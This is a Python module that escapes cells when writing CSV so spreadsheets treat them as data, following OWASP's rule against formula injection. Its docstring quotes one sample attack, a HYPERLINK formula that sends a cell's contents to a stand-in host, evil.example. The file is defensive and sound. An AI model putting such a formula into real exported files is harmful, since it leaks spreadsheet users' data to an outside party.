"""CSV that a spreadsheet reads as data: OWASP's rule against CSV (formula) injection.

A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return would be run as a
formula by Excel, LibreOffice or Sheets (``=HYPERLINK("http://evil.example/?leak="&A2, "Details")``);
it is written with a single quote in front, and every text cell is quoted. Numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def as_text(value: Any) -> Any:
    """``value``, with a single quote in front when it is text a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def frame_csv(frame: pd.DataFrame) -> str:
    """``frame`` (header included) as CSV text, its cells made safe."""
    safe = frame.map(as_text).rename(columns=as_text)
    return safe.to_csv(index=False, quoting=csv.QUOTE_NONNUMERIC)


def records_csv(columns: Sequence[str], records: Iterable[Mapping[str, Any]]) -> str:
    """Rows of ``{column: value}`` (header first) as CSV text, their cells made safe."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC)
    writer.writerow([as_text(name) for name in columns])
    for record in records:
        writer.writerow([as_text(record.get(name, "")) for name in columns])
    return buffer.getvalue()
